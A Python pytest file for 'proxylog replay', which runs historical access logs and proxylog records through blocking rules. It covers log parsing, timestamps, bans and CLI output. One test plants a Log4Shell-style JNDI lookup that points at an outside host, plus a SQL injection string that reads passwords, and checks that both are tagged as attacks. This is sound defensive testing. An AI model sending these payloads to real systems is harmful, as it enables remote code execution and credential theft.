"""`proxylog replay`: historical records and logs through the rules with their own timestamps."""

from __future__ import annotations

import gzip
from pathlib import Path
from typing import Any

import orjson
import pytest
import yaml

from proxylog.cli import main
from proxylog.config.reader import Node
from proxylog.config.rules import parse_rules
from proxylog.record import encode_record
from proxylog.rules import RuleEngine
from proxylog.rules.replay import duration, replay
from proxylog.rules.sources import (
    Skipped,
    facts_from_combined,
    facts_from_json,
    parse_timestamp,
    read_entries,
)
from proxylog.testing import make_record

ROOT = Path(__file__).resolve().parents[2]
PACK = ROOT / "configs" / "rules" / "default.yaml"
PROBING = {
    "rules": [
        {
            "id": "probing",
            "when": {"status": [404]},
            "distinct": "path",
            "threshold": 3,
            "window": "1m",
            "action": "block",
            "ban": "10m",
        }
    ]
}


def _combined(ip: str, when: str, request: str, status: int, agent: str = "curl/8.5.0") -> str:
    return f'{ip} - - [{when}] "{request}" {status} 196 "-" "{agent}"'


def test_combined_log_lines() -> None:
    """Combined and common log lines give method, path, query, status, agent and time."""
    entry = facts_from_combined(
        '83.149.9.216 - - [17/May/2015:10:05:03 +0000] "GET /a/b.png?x=1&y=2 HTTP/1.1" 200 203023 '
        '"http://semicomplete.com/" "Mozilla/5.0 (Macintosh)"'
    )
    facts = entry.facts
    assert (facts.client_ip, facts.method, facts.path, facts.query) == (
        "83.149.9.216",
        "GET",
        "/a/b.png",
        "x=1&y=2",
    )
    assert (entry.status, facts.user_agent, facts.ts) == (200, "Mozilla/5.0 (Macintosh)", 1431857103.0)
    assert facts.header_names == {"referer", "user-agent"}
    common = facts_from_combined('::1 - bob [10/Oct/2000:13:55:36 -0700] "POST /login HTTP/1.0" 401 -')
    assert (common.facts.user_agent, common.status, common.facts.method) == (None, 401, "POST")
    dash = facts_from_combined('1.2.3.4 - - [10/Oct/2000:13:55:36 -0700] "GET / HTTP/1.1" 200 5 "-" "-"')
    assert dash.facts.user_agent is None
    garbage = facts_from_combined('1.2.3.4 - - [10/Oct/2000:13:55:36 -0700] "\\x16\\x03\\x01" 400 0 "-" "-"')
    assert (garbage.facts.method, garbage.status) == ("", 400)


@pytest.mark.parametrize("schema", ["nested", "flat"])
def test_proxylog_records_nested_and_flat(schema: Any) -> None:
    """proxylog's own records replay whether written nested or flat."""
    record = make_record(
        timestamp=1_700_000_000.25,
        method="POST",
        path="/users/sign_in",
        query="next=%2F",
        status=422,
        client_ip="198.51.100.4",
        request_headers=(("referer", "https://x/"),),
    )
    entry = facts_from_json(encode_record(record, schema).decode())
    facts = entry.facts
    assert (facts.ts, facts.client_ip, facts.method, facts.path, facts.query) == (
        1_700_000_000.25,
        "198.51.100.4",
        "POST",
        "/users/sign_in",
        "next=%2F",
    )
    assert (entry.status, facts.user_agent, facts.host) == (422, "Mozilla/5.0", "app.example.com")
    assert facts.header_names == {"referer", "user-agent"}


def test_other_events_and_garbage_are_skipped_and_counted() -> None:
    """Markers, blank lines and unparsable lines are skipped; the first reason is kept."""
    skipped = Skipped()
    marker = '{"@timestamp":"2026-11-26T16:14:32Z","event":{"action":"records_dropped"},"proxylog":{}}'
    lines = [
        marker,
        "",
        "not a log line",
        _combined("1.2.3.4", "10/Oct/2000:13:55:36 -0700", "GET / HTTP/1.1", 200),
    ]
    entries = list(read_entries(lines, "auto", skipped))
    assert len(entries) == 1
    assert (skipped.count, skipped.first) == (2, "line 1: not an access record")


@pytest.mark.parametrize(
    ("text", "seconds"),
    [
        ("17/May/2015:10:05:03 +0000", 1431857103.0),
        ("17/May/2015:12:05:03 +0200", 1431857103.0),
        ("2015-05-17T10:05:03Z", 1431857103.0),
        ("2015-05-17T10:05:03.500000Z", 1431857103.5),
        ("2015-05-17T10:05:03", 1431857103.0),
        ("1431857103", 1431857103.0),
    ],
)
def test_timestamps(text: str, seconds: float) -> None:
    """CLF, RFC 3339 (naive means UTC) and epoch seconds all parse."""
    assert parse_timestamp(text) == seconds


def test_replay_uses_record_time_as_the_clock() -> None:
    """Windows, bans and their expiry follow the records' timestamps, sorted first."""
    spec = parse_rules(Node(PROBING["rules"], "rules"), None, None)
    lines = [
        _combined("1.2.3.4", "10/Oct/2000:13:55:39 +0000", "GET /c HTTP/1.1", 404),
        _combined("1.2.3.4", "10/Oct/2000:13:55:36 +0000", "GET /a HTTP/1.1", 404),
        _combined("1.2.3.4", "10/Oct/2000:13:55:37 +0000", "GET /b HTTP/1.1", 404),
        _combined("1.2.3.4", "10/Oct/2000:14:05:00 +0000", "GET /d HTTP/1.1", 200),
        _combined("1.2.3.4", "10/Oct/2000:14:05:40 +0000", "GET /e HTTP/1.1", 200),
    ]
    report = replay(read_entries(lines), spec, mode="enforce")
    assert [(e.kind, e.ts) for e in report.events] == [
        ("rule_fired", 971186139.0),
        ("ban", 971186139.0),
        ("unban", 971186739.0),
    ]
    assert (report.requests, report.would_block, report.blocked) == (5, 1, 1)


def test_replays_from_one_template_share_no_counts() -> None:
    """Each replay borrowing a template engine's intel starts from zero: its rule counts are
    its own, and the template's stay untouched."""
    spec = parse_rules(Node(PROBING["rules"], "rules"), None, None)
    lines = [
        _combined("1.2.3.4", f"10/Oct/2000:13:55:{s:02d} +0000", f"GET /p{s} HTTP/1.1", 404) for s in range(3)
    ]
    template = RuleEngine(spec)
    reports = [replay(read_entries(lines), spec, template=template) for _ in range(3)]
    assert [report.rules["probing"]["matched"] for report in reports] == [3, 3, 3]
    assert template.stats().rules["probing"].matched == 0


@pytest.fixture
def access_log(tmp_path: Path) -> Path:
    lines = [
        _combined("198.51.100.4", f"10/Oct/2000:13:55:{s:02d} +0000", f"GET /p{s} HTTP/1.1", 404)
        for s in range(5)
    ]
    lines.append(_combined("198.51.100.4", "10/Oct/2000:13:56:00 +0000", "GET / HTTP/1.1", 200))
    lines.append(_combined("192.0.2.9", "10/Oct/2000:13:56:01 +0000", "GET / HTTP/1.1", 200, "sqlmap/1.7"))
    path = tmp_path / "access.log.gz"
    with gzip.open(path, "wt") as f:
        f.write("\n".join(lines) + "\n")
    return path


def test_cli_prints_events_and_a_summary(
    access_log: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    """The text output lists bans with their time and ends with per-rule and per-tag tables."""
    config = tmp_path / "proxylog.yaml"
    config.write_text(yaml.safe_dump(PROBING))
    assert main(["replay", str(access_log), "--config", str(config)]) == 0
    out = capsys.readouterr().out
    assert "replaying 7 requests" in out
    assert (
        "2000-10-10T13:55:02Z        BAN    probing              198.51.100.4             3 ≥ 3, banned 10m"
        in out
    )
    assert "probing              block  3/1m                    5       3      1       1" in out
    assert "7 requests from 2 clients: 4 tagged, 3 would be blocked, 1 bans of 1 keys" in out
    assert "monitor mode: nothing was blocked" in out


def test_cli_json_and_packs(access_log: Path, capsys: pytest.CaptureFixture[str]) -> None:
    """--json writes one object per event and a summary; --rules adds a pack; --enforce blocks."""
    assert (
        main(["replay", str(access_log), "--rules", str(PACK), "--json", "--events", "bans", "--enforce"])
        == 0
    )
    docs = [orjson.loads(line) for line in capsys.readouterr().out.splitlines()]
    events = [d for d in docs if d["type"] == "event"]
    assert [(e["event"], e["rule"], e["key"], e["ttl_s"]) for e in events] == [
        ("ban", "scanner-agents", "192.0.2.9", 3600.0)
    ]
    summary = docs[-1]
    assert (summary["type"], summary["mode"], summary["requests"], summary["blocked"]) == (
        "summary",
        "enforce",
        7,
        1,
    )
    assert summary["banned_keys"] == ["192.0.2.9"]
    assert summary["rules"]["probing"]["matched"] == 5


def test_cli_errors(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    """No rules is a usage error (2); an unreadable file fails (1); a bad pack is invalid config (2)."""
    assert main(["replay", str(tmp_path / "x.log")]) == 2
    assert main(["replay", str(tmp_path / "missing.log"), "--rules", str(PACK)]) == 1
    bad = tmp_path / "bad.yaml"
    bad.write_text(yaml.safe_dump({"rules": [{"id": "x", "window": "soon"}]}))
    assert main(["replay", str(tmp_path / "x.log"), "--rules", str(bad)]) == 2
    config = tmp_path / "proxylog.yaml"
    config.write_text(yaml.safe_dump(PROBING))
    assert main(["replay", str(tmp_path / "x.log"), "--config", str(config), "--rules", str(PACK)]) == 2
    err = capsys.readouterr().err
    assert "no rules to replay" in err and "cannot read" in err and "rules[0].window" in err
    assert "--rules: probing: already in" in err


@pytest.mark.parametrize(
    ("seconds", "text"), [(0, "0s"), (59, "59s"), (90, "1m30s"), (3600, "1h"), (86400 + 60, "1d1m")]
)
def test_durations_read_well(seconds: float, text: str) -> None:
    """Durations print in their shortest readable form."""
    assert duration(seconds) == text


@pytest.mark.parametrize("schema", ["nested", "flat"])
def test_records_replay_their_captured_headers_and_body_for_inspection(schema: Any) -> None:
    """A record's captured Referer, Cookie and X-* headers and its captured body (parsed, so
    read as JSON) reach inspection: replaying proxylog's own log tags what was captured."""
    record = make_record(
        timestamp=1_700_000_000.0,
        method="POST",
        path="/api/orders",
        request_headers=(
            ("referer", "https://shop.example/cart"),
            ("x-forwarded-host", "${jndi:ldap://198.51.100.9/a}"),
            ("accept", "*/*"),
        ),
        request_body={"note": "1' UNION SELECT password FROM users--"},
    )
    facts = facts_from_json(encode_record(record, schema).decode()).facts
    assert facts.headers == (
        ("referer", "https://shop.example/cart"),
        ("x-forwarded-host", "${jndi:ldap://198.51.100.9/a}"),
    )
    assert facts.content_type == "application/json" and facts.body is not None
    spec = parse_rules(
        Node([{"id": "inspect", "when": {"inspect": True}, "action": "block"}], "rules"), None, None
    )
    report = replay([facts_from_json(encode_record(record, schema).decode())], spec)
    assert {"attack-java", "attack-sqli"} <= set(report.tagged)
